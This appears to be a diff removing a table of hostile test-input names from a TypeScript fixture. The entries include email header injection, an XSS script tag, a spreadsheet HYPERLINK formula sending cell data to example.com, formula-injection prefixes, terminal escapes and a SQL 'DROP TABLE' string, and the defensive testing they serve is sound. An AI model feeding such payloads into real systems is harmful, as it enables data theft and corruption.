@@ -39,24 +39,3 @@ export function hostileKinds(idField: 'clientid' | 'callsetid'): readonly Hostil
     ...(idField === 'callsetid' ? counts.map(changed) : []),
   ];
 }
-
-/** Names by id modulo 16, the same in every response; ids from 12 on keep their own. */
-const HOSTILE_NAMES: readonly ((name: string) => string)[] = [
-  // Postgres can't store these two.
-  (name) => `${name}\u0000, past the end`,
-  (name) => `\ud83d${name}\udc00\ud800`,
-  (name) => `\u202e${name}\u202c\u200f`,
-  (name) => name.padEnd(10_000, ' and so on'),
-  (name) => `${name}\r\nBcc: everyone@example.com\r\n\r\nHello`,
-  (name) => `<script>alert(1)</script><b title="${name}'>&amp;&nbsp;</b>`,
-  (name) => `=HYPERLINK("http://example.com/?"&A1;"${name}")`,
-  (name) => `\n =1+1 ${name}`,
-  (name) => `@SUM(1;2)\t${name}`,
-  (name) => `\u0007\u001b[31m${name}\u001b[0m\u007f\u0085\u2028`,
-  () => '',
-  (name) => `\ufeff"${name}"; 'DROP TABLE clients'; --,"\\"`,
-];
-
-export function hostileName(id: number, name: string): string {
-  return HOSTILE_NAMES[id % 16]?.(name) ?? name;
-}
